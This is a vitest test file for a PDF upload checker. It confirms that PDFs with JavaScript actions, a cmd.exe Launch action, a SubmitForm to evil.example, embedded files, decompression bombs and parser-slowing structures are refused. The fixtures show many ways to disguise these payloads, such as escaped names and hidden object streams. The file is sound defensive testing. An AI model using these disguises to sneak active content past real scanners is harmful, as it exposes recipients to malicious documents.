import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildPdf, genuinePdf, objectStream, type PdfObject, type PdfOptions } from '@/tests/pdf';
import { sniffEvidence } from './evidence';
import { MAX_PDF_INFLATE, decodePdfName, pdfProblem } from './pdf';
import { inVietnamese } from '@/tests/i18n';
import { cpuGrowth, cpuMs, GROWTH_LIMIT } from '@/tests/cpu-time';

const ACTIVE = 'Tệp PDF chứa mã thực thi hoặc tệp nhúng, không được chấp nhận.';
const DAMAGED = 'Tệp bị hỏng hoặc không đầy đủ.';
const ENCRYPTED = 'Tệp PDF được mã hóa nên không kiểm tra được nội dung; hãy gửi bản không đặt mật khẩu.';
const TOO_LARGE = 'Tệp PDF quá lớn khi giải nén để kiểm tra.';

async function verdict(bytes: Uint8Array) {
  const r = await sniffEvidence(bytes, 'bao-cao.pdf');
  return r.ok ? 'accepted' : inVietnamese(r.reason);
}

/** Active content, each as the object the catalog points to (number 8), plus what the catalog says. */
const ACTIVE_CONTENT: [string, { catalog: string; target: string }][] = [
  ['a JavaScript open action', { catalog: '/OpenAction 8 0 R', target: '<< /S /JavaScript /JS (app.alert(1)) >>' }],
  ['a JavaScript action in /AA', { catalog: '/AA << /O 8 0 R >>', target: '<< /S /JavaScript /JS 11 0 R >>' }],
  ['a document JavaScript name tree', { catalog: '/Names 8 0 R', target: '<< /JavaScript << /Names [] >> >>' }],
  ['a Launch action', { catalog: '/OpenAction 8 0 R', target: '<< /S /Launch /F (cmd.exe) >>' }],
  [
    'a SubmitForm action',
    { catalog: '/OpenAction 8 0 R', target: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>' },
  ],
  ['a GoToR action', { catalog: '/OpenAction 8 0 R', target: '<< /S /GoToR /F (khac.pdf) /D [0 /Fit] >>' }],
  ['an ImportData action', { catalog: '/OpenAction 8 0 R', target: '<< /S /ImportData /F (du-lieu.fdf) >>' }],
  ['an XFA form', { catalog: '/AcroForm 8 0 R', target: '<< /Fields [] /XFA 11 0 R >>' }],
  [
    'a RichMedia annotation',
    { catalog: '/Extra 8 0 R', target: '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>' },
  ],
  ['embedded files', { catalog: '/Names 8 0 R', target: '<< /EmbeddedFiles << /Names [] >> >>' }],
  ['an embedded file stream', { catalog: '/Extra 8 0 R', target: '<< /Type /EmbeddedFile >>' }],
];

/** How the names in an object are written: every way a reader still reads the same names. */
const SPELLINGS: [string, (body: string) => string][] = [
  ['plainly', (b) => b],
  ['every character escaped (#xx)', (b) => b.replace(/\/(\w+)/g, (_, n: string) => `/${[...n].map(hex).join('')}`)],
  [
    'one character escaped, lower-case hex',
    (b) => b.replace(/\/(\w)(\w*)/g, (_, c: string, r: string) => `/${hex(c).toLowerCase()}${r}`),
  ],
  ['the last character escaped', (b) => b.replace(/\/(\w*)(\w)\b/g, (_, r: string, c: string) => `/${r}${hex(c)}`)],
  ['each name on its own line', (b) => b.replace(/ ?\//g, '\r\n/').replace(/ \(/g, '\n(')],
  ['comments between the names', (b) => b.replace(/ ?\//g, '%c\n/')],
];
const hex = (c: string) => `#${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;

type Placement = (
  catalog: string,
  target: string,
) => { objects: PdfObject[]; packed?: { num: number; stm: number; index: number }[]; options?: PdfOptions };
const catalogOf = (extra: string) => `<< /Type /Catalog /Pages 2 0 R ${extra} >>`;
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
const SCRIPT: PdfObject = { num: 11, body: '', data: new TextEncoder().encode('app.alert(1)') };
const inObjStm =
  (o: Parameters<typeof objectStream>[2]): Placement =>
  (catalog, target) => {
    const stm = objectStream(
      20,
      [
        { num: 1, body: catalogOf(catalog) },
        { num: 2, body: PAGES },
        { num: 8, body: target },
      ],
      o,
    );
    return { objects: [stm.object, SCRIPT], packed: stm.packed };
  };

/** Where the active object is kept. */
const PLACEMENTS: [string, Placement][] = [
  [
    'a plain object',
    (catalog, target) => ({
      objects: [{ num: 1, body: catalogOf(catalog) }, { num: 2, body: PAGES }, { num: 8, body: target }, SCRIPT],
    }),
  ],
  ['an object stream with /Type /ObjStm', inObjStm({})],
  ['an object stream whose /Type is escaped (/Obj#53tm)', inObjStm({ type: '/Type /Obj#53tm' })],
  ['an object stream with no /Type', inObjStm({ type: '' })],
  [
    'an object stream with no /Type and no /First (found through the xref stream only)',
    inObjStm({ type: '', noFirst: true }),
  ],
  ['an object stream with a PNG predictor', inObjStm({ type: '', predictor: true })],
  [
    'an object stream behind an xref stream with a comment before obj and an escaped /Type',
    (catalog, target) => ({
      ...inObjStm({ type: '/Type /#4fbjStm' })(catalog, target),
      options: { xrefObjGap: ' %x\n', xrefType: '/Type /X#52ef' },
    }),
  ],
];

describe('PDF active content: every name spelling in every place a reader loads objects from', () => {
  for (const [what, { catalog, target }] of ACTIVE_CONTENT) {
    for (const [where, place] of PLACEMENTS) {
      it(`refuses ${what} in ${where}, however its names are written`, async () => {
        for (const [spelling, spell] of SPELLINGS) {
          const { objects, packed, options } = place(spell(catalog), spell(target));
          expect(await verdict(buildPdf(objects, packed, options)), spelling).toBe(ACTIVE);
        }
      });
    }
  }

  it('decodes #xx escapes in names as readers do', () => {
    expect(decodePdfName('J#61vaScript')).toBe('JavaScript');
    expect(decodePdfName('#4A#53')).toBe('JS');
    expect(decodePdfName('Obj#53tm')).toBe('ObjStm');
    expect(decodePdfName('A#2')).toBe('A#2');
  });

  it('finds an object stream hidden inside another object string', async () => {
    const stm = objectStream(20, [{ num: 8, body: '<< /S /JavaScript /JS (x) >>' }], { type: '' });
    const file = buildPdf(
      [{ num: 1, body: catalogOf('/OpenAction 8 0 R') }, { num: 2, body: PAGES }, stm.object],
      stm.packed,
    );
    const text = Buffer.from(file).toString('latin1');
    const at = text.indexOf('20 0 obj');
    const wrapped = `${text.slice(0, at)}30 0 obj << /Hidden (${text.slice(at, text.indexOf('startxref'))}) >> endobj\n${text.slice(text.indexOf('startxref'))}`;
    expect(await verdict(Buffer.from(wrapped, 'latin1'))).toBe(ACTIVE);
  });
});

describe('PDFs whose objects cannot all be inspected are refused', () => {
  const catalog = (extra = '') => [
    { num: 1, body: catalogOf(extra) },
    { num: 2, body: PAGES },
  ];
  const withStm = (o: Parameters<typeof objectStream>[2], options: PdfOptions = {}) => {
    const stm = objectStream(20, [{ num: 8, body: '<< /Title (x) >>' }], o);
    return buildPdf([...catalog(), stm.object], stm.packed, options);
  };

  it('an object stream that does not inflate, with or without a /Type', async () => {
    const junk = new Uint8Array(200).fill(0x41);
    expect(await verdict(withStm({ data: junk }))).toBe(DAMAGED);
    expect(await verdict(withStm({ data: junk, type: '', noFirst: true }))).toBe(DAMAGED);
  });

  it('object streams with filters it cannot decode, chained filters, odd predictors or external data', async () => {
    for (const filter of [
      '/Filter /LZWDecode',
      '/Filter [/FlateDecode /ASCIIHexDecode]',
      '/Filter /Crypt',
      '/Filter 9 0 R',
    ]) {
      expect(await verdict(withStm({ filter })), filter).toBe(DAMAGED);
    }
    const flate = '/Filter /FlateDecode';
    for (const extra of ['/DecodeParms << /Predictor 5 >>', '/DecodeParms 9 0 R', '/F (elsewhere.bin)']) {
      expect(await verdict(withStm({ filter: `${flate} ${extra}` })), extra).toBe(DAMAGED);
    }
  });

  it('a cross-reference stream that does not inflate, or that names an object stream the file does not hold', async () => {
    expect(await verdict(buildPdf(catalog(), [], { xref: 'stream', missingObjStm: 40 }))).toBe(DAMAGED);
    const file = Buffer.from(buildPdf(catalog(), [], { xref: 'stream' })).toString('latin1');
    const start = file.lastIndexOf('>>\nstream\n') + 10;
    const broken = file.slice(0, start) + 'x'.repeat(10) + file.slice(start + 10);
    expect(await verdict(Buffer.from(broken, 'latin1'))).toBe(DAMAGED);
  });

  it('an encrypted PDF whose objects are in (encrypted) object streams; names outside streams are still read', async () => {
    expect(await verdict(withStm({}, { trailer: '/Encrypt 30 0 R' }))).toBe(ENCRYPTED);
    expect(await verdict(withStm({}, { trailer: '/Encr#79pt 30 0 R' }))).toBe(ENCRYPTED);
    const plain = [...catalog('/OpenAction 8 0 R'), { num: 8, body: '<< /S /JavaScript /JS <a1b2> >>' }];
    expect(await verdict(buildPdf(plain, [], { trailer: '/Encrypt 30 0 R' }))).toBe(ACTIVE);
  });

  it('a decompression bomb, quickly and within bounded memory', async () => {
    const bomb = deflateSync(Buffer.alloc(MAX_PDF_INFLATE + 1024 * 1024, 0x20));
    let found: unknown;
    // CPU time (decision 089): this process's, zlib's threads included, so inflating the bomb in full would count.
    expect(await cpuMs(async () => (found = await verdict(withStm({ data: bomb }))))).toBeLessThan(5_000);
    expect(found).toBe(TOO_LARGE);
  });

  it('stays linear on a file built to make the parser backtrack', async () => {
    const nasty = (n: number) => Buffer.from(`%PDF-1.7\n${'1 0 obj<<'.repeat(n)}\n%%EOF\n`, 'latin1');
    expect(await pdfProblem(nasty(500_000))).toBe('damaged');
    // The growth from a quarter of the file (CPU time, decision 089), and a generous bound on the whole.
    const { ratio, largeMs } = await cpuGrowth(pdfProblem, nasty(125_000), nasty(500_000));
    expect(ratio).toBeLessThan(GROWTH_LIMIT);
    expect(largeMs).toBeLessThan(5_000);
  }, 120_000);
});

/** S empty stream objects and one cross-reference stream whose type-2 entries name every one of them (attacker pass 22). */
function manyNamedStreams(count: number): Buffer {
  const parts = ['%PDF-1.7\n'];
  for (let n = 1; n <= count; n++) parts.push(`${n} 0 obj<</Length 0>>stream\n\nendstream endobj\n`);
  const entries = Buffer.alloc(count * 4);
  for (let n = 1; n <= count; n++) entries.writeUInt32BE(0x02000000 | n, (n - 1) * 4);
  const z = deflateSync(entries);
  const head = `${count + 1} 0 obj<</Type/XRef/W[1 3 0]/Filter/FlateDecode/Length ${z.length}>>stream\n`;
  return Buffer.concat([
    Buffer.from(parts.join('') + head, 'latin1'),
    z,
    Buffer.from('\nendstream endobj\nstartxref\n0\n%%EOF\n', 'latin1'),
  ]);
}

describe('PDFs that name many object streams', () => {
  it('inspects each named stream found by its number', async () => {
    expect(await pdfProblem(manyNamedStreams(2_000))).toBeNull();
  });

  it('refuses more named streams than it inspects, in time linear in the file (it was quadratic: 12 s for 3 MB)', async () => {
    const file = manyNamedStreams(64_000);
    expect(await pdfProblem(file)).toBe('tooLarge');
    const { ratio, largeMs } = await cpuGrowth(pdfProblem, manyNamedStreams(16_000), file);
    expect(ratio).toBeLessThan(GROWTH_LIMIT);
    expect(largeMs).toBeLessThan(3_000);
  }, 120_000);
});

describe('a long check shares the server', () => {
  it('gives the event loop a turn while it reads a file built to be slow (attacker pass 22: 2–5 s in one block)', async () => {
    const stubs = Array.from(
      { length: 300_000 },
      (_, i) => `${i + 1} 0 obj<</First 5/Length 0>>stream\n\nendstream endobj\n`,
    );
    const file = Buffer.from(`%PDF-1.7\n${stubs.join('')}%%EOF\n`, 'latin1');
    const ticks: number[] = [];
    const timer = setInterval(() => ticks.push(performance.now()), 5);
    const started = performance.now();
    const problem = await pdfProblem(file);
    const ended = performance.now();
    clearInterval(timer);
    expect(problem).toBe('tooLarge');
    // Timers ran while the check did (a check in one block lets none run until it ends): about one per 20 ms slice,
    // counted loosely, since a busy machine may also pause the process.
    const during = ticks.filter((t) => t > started && t < ended).length;
    expect(during).toBeGreaterThanOrEqual(Math.min(5, Math.floor((ended - started) / 100)));
  });
});

describe('genuine PDFs are accepted', () => {
  it('a producer-style file: compressed content, an object stream with a predictor, an xref stream, a link, an image', async () => {
    expect(await verdict(genuinePdf())).toBe('accepted');
  });

  it('the same objects written plainly with a classic cross-reference table, and look-alike names', async () => {
    const objects: PdfObject[] = [
      { num: 1, body: catalogOf('/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] /NeedAppearances true >>') },
      { num: 2, body: PAGES },
      { num: 4, body: '<< /JSONData 1 /Launcher 2 /XFAX 3 /GoToRX 4 /SubmitFormat 5 >>' },
      { num: 5, body: '/Filter /FlateDecode', data: deflateSync('BT /F1 12 Tf (JS JavaScript) Tj ET') },
    ];
    expect(await verdict(buildPdf(objects))).toBe('accepted');
  });

  it('an object stream with /Type written with an escape but nothing active in it', async () => {
    const stm = objectStream(
      20,
      [
        { num: 1, body: catalogOf('') },
        { num: 2, body: PAGES },
      ],
      { type: '/Type /Obj#53tm' },
    );
    expect(await verdict(buildPdf([stm.object], stm.packed))).toBe('accepted');
  });
});
